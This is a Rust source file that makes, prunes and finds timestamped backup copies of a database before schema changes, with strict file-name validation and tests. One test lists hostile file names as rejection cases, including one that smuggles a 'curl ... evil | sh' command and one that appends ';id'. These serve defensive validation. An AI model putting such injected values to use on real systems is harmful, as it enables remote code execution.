//! What the database was before its schema was changed: a copy for each change, beside it.

use std::fs::{self, DirBuilder, File};
use std::io;
use std::os::unix::fs::{DirBuilderExt as _, MetadataExt as _};
use std::path::{Path, PathBuf};

use chrono::Utc;

use super::super::StoreError;

/// The directory of the copies, beside the database.
const DIRECTORY: &str = "backups";
/// Copies that are kept of one schema: a start that fails again and again fills no disk, and takes no
/// other schema's copy away.
const KEPT_OF_SCHEMA: usize = 2;
/// Copies that are kept of all.
const KEPT: usize = 6;
const PREFIX: &str = "pinfold-schema-";
const SUFFIX: &str = ".db";

/// A copy, by its name: `pinfold-schema-3-20261121T204834123Z.db`.
#[derive(Debug, PartialEq, Eq)]
struct Backup {
    schema: i64,
    /// In UTC, so that the order of texts is that of time.
    time: String,
    path: PathBuf,
}

/// Copies the database aside before its schema is changed from `schema`, and removes the oldest
/// copies over the limit.
pub(super) async fn make(path: &Path, schema: i64) -> Result<PathBuf, StoreError> {
    let directory = directory(path);
    let io = |source| StoreError::Copy {
        path: path.into(),
        to: directory.clone(),
        source: sqlx::Error::Io(source),
    };
    match DirBuilder::new().mode(0o700).create(&directory) {
        Err(error) if error.kind() != io::ErrorKind::AlreadyExists => return Err(io(error)),
        _ => {}
    }
    let time = Utc::now().format("%Y%m%dT%H%M%S%3fZ");
    let to = directory.join(format!("{PREFIX}{schema}-{time}{SUFFIX}"));
    let new = directory.join("new");
    match fs::remove_file(&new) {
        Err(error) if error.kind() != io::ErrorKind::NotFound => return Err(io(error)),
        _ => {}
    }
    super::copy(path, &new).await?;
    fs::rename(&new, &to).map_err(io)?;
    File::open(&directory)
        .and_then(|directory| directory.sync_all())
        .map_err(io)?;
    for old in over(all(path)) {
        if let Err(error) = fs::remove_file(&old) {
            tracing::warn!(%error, file = %old.display(), "old copy of the database stays");
        }
    }
    Ok(to)
}

/// The newest copy of a schema that is at most `known`.
pub(super) fn newest(path: &Path, known: i64) -> Option<PathBuf> {
    let fits = all(path).into_iter();
    let fits = fits.filter(|one| one.schema <= known && is_copy(&one.path));
    fits.max_by(|a, b| a.time.cmp(&b.time)).map(|one| one.path)
}

fn directory(path: &Path) -> PathBuf {
    path.with_file_name(DIRECTORY)
}

fn all(path: &Path) -> Vec<Backup> {
    let entries = fs::read_dir(directory(path)).into_iter().flatten();
    entries
        .filter_map(|entry| parse(entry.ok()?.path()))
        .collect()
}

/// What such a copy is called by; whoever may write there can choose any other name, which is none.
fn parse(path: PathBuf) -> Option<Backup> {
    let name = path.file_name()?.to_str()?;
    let (schema, time) = name
        .strip_prefix(PREFIX)?
        .strip_suffix(SUFFIX)?
        .split_once('-')?;
    let is_number = !schema.is_empty() && schema.bytes().all(|byte| byte.is_ascii_digit());
    if !is_number || !is_time(time) {
        return None;
    }
    let (schema, time) = (schema.parse().ok()?, time.to_owned());
    Some(Backup { schema, time, path })
}

/// `20261121T204834123Z` and nothing else: it stands in a command that somebody is told to run.
fn is_time(text: &str) -> bool {
    let form = b"00000000T000000000Z";
    let fits = |(byte, form): (u8, &u8)| match form {
        b'0' => byte.is_ascii_digit(),
        _ => byte == *form,
    };
    text.len() == form.len() && text.bytes().zip(form).all(fits)
}

/// No link to elsewhere, nor a file of another name too.
fn is_copy(path: &Path) -> bool {
    fs::symlink_metadata(path).is_ok_and(|it| it.is_file() && it.nlink() == 1)
}

/// Those that are too many: of each schema but the newest two, and of what is left but the newest six.
fn over(mut all: Vec<Backup>) -> Vec<PathBuf> {
    all.sort_by(|a, b| b.time.cmp(&a.time));
    let (mut kept, mut over) = (Vec::new(), Vec::new());
    for Backup { schema, path, .. } in all {
        let of_schema = kept.iter().filter(|one| **one == schema).count();
        if kept.len() < KEPT && of_schema < KEPT_OF_SCHEMA {
            kept.push(schema);
        } else {
            over.push(path);
        }
    }
    over
}

#[cfg(test)]
mod tests {
    use super::*;

    fn backup(schema: i64, time: u32) -> Backup {
        parse(format!("/x/pinfold-schema-{schema}-20261121T2048341{time:02}Z.db").into()).unwrap()
    }

    #[test]
    fn a_start_that_fails_again_and_again_takes_no_other_schemas_copy_away() {
        let mut all: Vec<Backup> = vec![backup(1, 0), backup(2, 1)];
        all.extend((10..30).map(|time| backup(3, time)));
        let over = over(all);
        assert_eq!(over.len(), 18);
        let stays = |schema, time| !over.contains(&backup(schema, time).path);
        assert!(stays(1, 0) && stays(2, 1) && stays(3, 29) && stays(3, 28));
    }

    #[test]
    fn of_many_schemas_the_newest_six_copies_are_kept() {
        let over = over((0..10).map(|at| backup(i64::from(at), at)).collect());
        assert_eq!(over.len(), 4);
        assert!(over.contains(&backup(0, 0).path) && !over.contains(&backup(4, 4).path));
    }

    #[test]
    fn what_is_no_copy_by_its_name_is_left_alone() {
        for name in [
            "new",
            "pinfold.db",
            "pinfold-schema-x-20261121T204834123Z.db",
            "pinfold-schema-+1-20261121T204834123Z.db",
            "pinfold-schema-1-~$(curl${IFS}evil|sh).db",
            "pinfold-schema-1-20261121T204834123Z.db;id.db",
            "pinfold-schema-1-20261121T2048341234.db",
            "notes.txt",
        ] {
            assert_eq!(parse(Path::new("/x").join(name)), None, "{name}");
        }
    }

    #[test]
    fn the_newest_copy_is_a_file_of_its_own_and_no_link() {
        let base = tempfile::tempdir().unwrap();
        let database = base.path().join("pinfold.db");
        let at = |name: &str| base.path().join(DIRECTORY).join(name);
        fs::create_dir(base.path().join(DIRECTORY)).unwrap();
        let good = at("pinfold-schema-1-20261121T204834123Z.db");
        fs::write(&good, "").unwrap();
        let elsewhere = base.path().join("shadow");
        fs::write(&elsewhere, "").unwrap();
        let link = at("pinfold-schema-1-20271121T204834123Z.db");
        std::os::unix::fs::symlink(&elsewhere, link).unwrap();
        let shared = at("pinfold-schema-1-20281121T204834123Z.db");
        fs::hard_link(&elsewhere, shared).unwrap();
        fs::create_dir(at("pinfold-schema-1-20291121T204834123Z.db")).unwrap();
        assert_eq!(newest(&database, 5), Some(good));
    }
}
